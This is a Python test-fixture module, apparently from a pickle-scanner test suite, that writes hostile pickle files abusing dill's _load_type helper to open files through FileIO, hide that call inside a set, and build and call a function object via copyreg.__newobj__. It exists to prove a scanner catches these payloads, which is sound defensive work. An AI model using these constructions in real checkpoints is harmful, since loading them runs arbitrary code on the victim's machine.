"""Hostile files: dill's helpers. ultralytics checkpoints are pickled with dill, whose
``_load_type(name)`` is read as data for the builtin data types (set, dict, list...); any
other type it names (FileIO, FunctionType...) must stay dangerous when the file calls it.

Each builder writes a file whose payload runs under the loader named in its Case (proven by
tests/test_scan.py in a subprocess); CASES is appended to ``hostile.CASES``.
"""

from __future__ import annotations

import pickle
import pickletools
from pathlib import Path

from hostile import MARK, REDUCE, TUPLE, Case, _write, call, glob0, proto, pycode, str0


def _dill_type(name: str) -> bytes:
    return call(glob0("dill._dill", "_load_type"), str0(name))


def b_dill_fileio(work: Path) -> Path:
    # dill._dill._load_type('FileType') is io.FileIO: FileIO(path, 'w') creates (or truncates) a file
    return _write(work, "dill_fileio.pkl", proto(2) + call(_dill_type("FileType"), str0(str(work / "marker")),
                                                           str0("w")) + b".")


def b_dill_fileio_in_set(work: Path) -> Path:
    # the same call hidden inside a data type dill writes for real checkpoints: set([FileIO(...)])
    inner = call(_dill_type("FileType"), str0(str(work / "marker")), str0("w"))
    return _write(work, "dill_fileio_set.pkl", proto(2) + _dill_type("set") + b"(" + b"(" + inner + b"l" + b"t"
                  + b"R" + b".")


def _data(value: object) -> bytes:
    """``value`` as protocol-2 opcodes (no PROTO, no STOP, no memo), to splice into a stream."""
    return pickletools.optimize(pickle.dumps(value, protocol=2))[2:-1]


def _newobj(cls: bytes, *args: bytes) -> bytes:
    """copyreg.__newobj__(cls, *args): cls.__new__(cls, *args), the way protocol 2 rebuilds objects."""
    return glob0("copyreg", "__newobj__") + MARK + cls + b"".join(args) + TUPLE + REDUCE


def b_dill_newobj_function(work: Path) -> Path:
    # code and function objects built by copyreg.__newobj__ from the types dill's _load_type names
    # (no exec, no marshal, no global beyond copyreg and dill's data helper), then called
    code = compile(pycode(work), "<payload>", "exec")
    fields = (code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals,
              code.co_stacksize, code.co_flags, code.co_code, code.co_consts, code.co_names, code.co_varnames,
              code.co_filename, code.co_name, code.co_qualname, code.co_firstlineno, code.co_linetable,
              code.co_exceptiontable, code.co_freevars, code.co_cellvars)
    made = _newobj(_dill_type("CodeType"), *(_data(f) for f in fields))
    func = _newobj(_dill_type("FunctionType"), made, _data({}))
    return _write(work, "dill_newobj_function.pkl", proto(2) + func + b")" + REDUCE + b".")


CASES: tuple[Case, ...] = (
    Case("dill-load-type-fileio", b_dill_fileio, "pickle"),
    Case("dill-load-type-fileio-in-set", b_dill_fileio_in_set, "pickle"),
    Case("dill-load-type-newobj-function", b_dill_newobj_function, "pickle"),
)
